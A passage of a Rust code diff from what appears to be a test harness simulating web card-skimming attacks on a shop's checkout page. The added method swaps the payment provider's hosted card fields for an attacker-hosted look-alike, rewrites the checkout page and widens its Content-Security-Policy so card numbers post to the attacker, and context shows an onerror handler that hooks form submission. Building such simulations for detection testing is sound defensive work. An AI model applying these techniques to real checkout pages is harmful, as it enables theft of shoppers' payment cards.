@@ -187,6 +187,36 @@ impl Shop {
         Planted { modified: self.url(Origin::Payment, "/static/fields.js"), added: None, code }
     }
 
+    /// A look-alike of the provider's hosted fields on the attacker's origin, framed in place of
+    /// the real one: the same page, loading the provider's own unchanged `fields.js`, whose
+    /// relative `fetch('/v1/tokens')` now posts the card to the attacker's origin — the frame's
+    /// own origin, from a script the baseline approved. The shop's CSP is widened to frame it.
+    /// Returns the look-alike's URL.
+    pub fn frame_fields_from_attacker(&self) -> String {
+        let provider = self.base(Origin::Payment);
+        let attacker = self.base(Origin::Attacker);
+        let mut page = self.resource(Origin::Payment, "/hosted-fields").expect("the hosted fields are served");
+        for asset in ["/static/fields.js", "/static/fields.css"] {
+            page.body = page.body.replace(&format!("\"{asset}\""), &format!("\"{provider}{asset}\""));
+        }
+        self.set_resource(Origin::Attacker, "/hosted-fields", page);
+        let token = self.resource(Origin::Payment, "/v1/tokens").expect("the token endpoint is served");
+        self.set_resource(Origin::Attacker, "/v1/tokens", token);
+        let from = format!("{provider}/hosted-fields");
+        let to = format!("{attacker}/hosted-fields");
+        // The shop's CSP frames only the provider: this attacker edits the server config too.
+        let both = format!("{provider} {attacker}");
+        self.edit(Origin::Shop, "/checkout", |p| {
+            p.body = p.body.replace(&from, &to);
+            for (name, value) in &mut p.headers {
+                if name.eq_ignore_ascii_case("Content-Security-Policy") {
+                    *value = value.replace(&provider, &both);
+                }
+            }
+        });
+        to
+    }
+
     /// Adds `<img src="/static/img/trust-badge.png" onerror="…">` to `/checkout`. The image does
     /// not exist (404), so the handler runs on every load and hooks the form submit.
     pub fn add_handler_attribute(&self) -> Planted {
